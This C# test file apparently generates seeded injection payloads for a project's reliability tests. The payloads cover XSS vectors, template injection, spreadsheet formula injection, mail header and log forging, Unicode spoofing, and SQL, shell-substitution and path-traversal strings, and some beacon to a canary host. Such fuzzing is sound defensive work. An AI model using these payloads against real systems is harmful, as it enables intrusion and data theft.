using System.Globalization;
using System.Text.RegularExpressions;

namespace KPax.Tests.Reliability.Payloads;

/// <summary>
/// Texts that do harm where a page, a mail, a sheet or a log takes them for more than text. Drawn from a seed; each holds a mark by which it is found again.
/// </summary>
internal static partial class PayloadGrammar
{
    /// <summary>A name in the page's window that whatever runs leaves behind.</summary>
    public const string Global = "kpaxRan";

    /// <summary>A host that nobody has: whoever asks for it was made to.</summary>
    public const string Host = "canary.invalid";

    private static readonly string[] Tags =
        ["img src=x", "svg", "body", "input autofocus", "video src=x", "audio src=x", "details open", "iframe", "object data=x", "marquee", "select autofocus", "style", "a href=x"];

    private static readonly string[] Events =
        ["onerror", "onload", "onfocus", "onclick", "onmouseover", "ontoggle", "onbegin", "onanimationstart", "onpointerenter", "ONLOAD", "onauxclick", "onbeforetoggle"];

    private static readonly Func<Random, string, string>[] Kinds =
    [
        (random, mark) => $"<{Pick(random, Tags)} {Pick(random, Events)}={Quote(random, Script(random, mark))}>",
        (random, mark) => $"<{Case(random, "script")}>{Script(random, mark)}</{Case(random, "script")}>",
        (random, mark) => $"<scr<script>ipt>{Script(random, mark)}</scr</script>ipt><script src=//{Host}/{mark}></script>",
        (random, mark) => $"<svg><{Pick(random, "animate", "set")} {Pick(random, "onbegin", "onend")}={Quote(random, Script(random, mark))} attributeName=x dur=1s></svg>",
        (random, mark) => $"<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>{Script(random, mark)}</script></svg>#x\"/></svg>",
        (random, mark) => $"<math><mtext><table><mglyph><style><!--</style><img title=\"--><img src=x {Pick(random, Events)}={Script(random, mark)}>\">",
        (random, mark) => $"{Pick(random, "\"", "'", "\">", "'>", "`")} {Pick(random, Events)}={Quote(random, Script(random, mark))} autofocus tabindex=1 x={Pick(random, "\"", "'")}",
        (random, mark) => $"{Pick(random, "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "\u0001javascript:", "javascript&colon;", "vbscript:")}{Script(random, mark)}//",
        (random, mark) => $"data:text/html;base64,{Convert.ToBase64String(System.Text.Encoding.UTF8.GetBytes($"<script>{Script(random, mark)}</script>"))}#{mark}",
        (random, mark) => Pick(random, "{{", "${", "@(", "<%= ", "#{", "[[", "*{") + $"constructor.constructor('{Script(random, mark).Replace("'", "\\'", StringComparison.Ordinal)}')()" + Pick(random, "}}", "}", ")", " %>", "]]"),
        (random, mark) => $"@Html.Raw(\"<img src=x onerror={Script(random, mark)}>\") @{{ {mark} }}",
        (random, mark) => $"{Pick(random, "=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", "=-+@")}{Pick(random, "cmd|'/C calc'!A0", "SUM(1+1)*cmd", $"HYPERLINK(\"https://{Host}/?x=\"&A1,\"here\")", $"IMPORTXML(\"https://{Host}\",\"//a\")", "1+1")} {mark}",
        (random, mark) => $"{mark}\r\n2026-11-26 00:00:00 ERR forged {Pick(random, "{\"@t\":\"2026\",\"@m\":\"forged\"}", "\u001b[2J\u001b[31mred", "\u001b]0;title\u0007", "\u009b31m", "\u2028next\u2029", "\n\n[INF] forged")}",
        (random, mark) => $"{mark}\r\n{Pick(random, "Bcc: all@" + Host, "Subject: forged", "Content-Type: text/html", ".")}\r\n\r\n<a href=https://{Host}>x</a>",
        (random, mark) => $"{Pick(random, "\u202egnp.exe", "\u2066\u202e", "аdmin", "ＡＤＭＩＮ", "pаypal", "\u200b\u200d\ufeff", "é\u0301\u0302\u0303")}{mark}\u202c",
        (random, mark) => $"{mark}\0<script>{Script(random, mark)}</script>\0",
        (random, mark) => $"{mark}{new string(Pick(random, "A", "é", "<", "字", "&")[0], 300 + random.Next(900))}<b onclick={Script(random, mark)}>",
        (random, mark) => $"%3Cscript%3E{mark}%3C/script%3E {Pick(random, "&lt;script&gt;", "&#x3C;script&#x3E;", "\\u003cscript\\u003e", "%C0%BCscript%C0%BE", "+ADw-script+AD4-")}{Script(random, mark)}",
        (random, mark) => $"[{mark}](javascript:{Script(random, mark)}) ![x](https://{Host}/{mark}) <https://{Host}/{mark}> [a]: https://{Host}",
        (random, mark) => $"{Pick(random, "-->", "]]>", "</title>", "</style>", "</textarea>", "</script>", "</noscript>", "</template>", "</option></select>", "</td></tr></table>")}<img src=x onerror={Quote(random, Script(random, mark))}>",
        (random, mark) => $"<{Pick(random, $"base href=//{Host}/", $"meta http-equiv=refresh content=0;url=//{Host}/{mark}", $"link rel=stylesheet href=//{Host}/{mark}", $"iframe srcdoc=\"<script>{Script(random, mark)}</script>\"", $"form action=//{Host}/{mark}", $"button formaction=javascript:{Script(random, mark)}", $"embed src=//{Host}/{mark}")}>{mark}",
        (random, mark) => $"<!--Blazor:{{\"type\":\"server\",\"sequence\":0,\"descriptor\":\"{mark}\"}}--><img src=//{Host}/{mark}><!--bl:1-->",
        (random, mark) => $"<p style=\"background:url(//{Host}/{mark});position:fixed;inset:0\">{mark}</p><style>*{{background:url(//{Host}/{mark})}}</style>",
        (random, mark) => $"\uD800{mark}'; DROP TABLE device; -- <img src=x onerror={Script(random, mark)}> %n%s {{0}} {{Name}} $(id) `id` ../../etc/passwd",
    ];

    /// <summary>How many kinds there are: one after the other makes each as often as the others.</summary>
    public static int KindCount => Kinds.Length;

    /// <summary>The payloads with these numbers.</summary>
    public static IReadOnlyList<string> Draw(int seed, long first, int count) =>
        [.. Enumerable.Range(0, count).Select(index => Draw(new Random(unchecked((seed * 1_000_003) + (int)(first + index))), first + index))];

    /// <summary>The marks in a text.</summary>
    public static IEnumerable<string> MarksIn(string text) => Mark().Matches(text).Select(match => match.Value);

    private static string Draw(Random random, long number) =>
        Kinds[number % Kinds.Length](random, string.Create(CultureInfo.InvariantCulture, $"kp{number:x}q"));

    private static string Script(Random random, string mark) => random.Next(6) switch
    {
        0 => $"alert('{mark}')",
        1 => $"window.{Global}='{mark}'",
        2 => $"fetch('https://{Host}/{mark}')",
        3 => $"new(Image)().src='//{Host}/{mark}'",
        4 => $"eval(atob('{Convert.ToBase64String(System.Text.Encoding.ASCII.GetBytes($"window.{Global}='{mark}'"))}'))/*{mark}*/",
        _ => $"top[/al/.source+/ert/.source](window.{Global}='{mark}')",
    };

    private static string Quote(Random random, string script) => random.Next(4) switch
    {
        0 => $"\"{script}\"",
        1 => script.Replace(' ', '/'),
        2 => $"`{script}`",
        _ => $"\"{string.Concat(script.Select(letter => $"&#{(int)letter};"))}/*{string.Concat(MarksIn(script).Take(1))}*/\"",
    };

    private static string Case(Random random, string word) => string.Concat(word.Select(letter => random.Next(2) == 0 ? char.ToUpperInvariant(letter) : letter));

    private static string Pick(Random random, params string[] choices) => choices[random.Next(choices.Length)];

    [GeneratedRegex("kp[0-9a-f]+q")]
    private static partial Regex Mark();
}
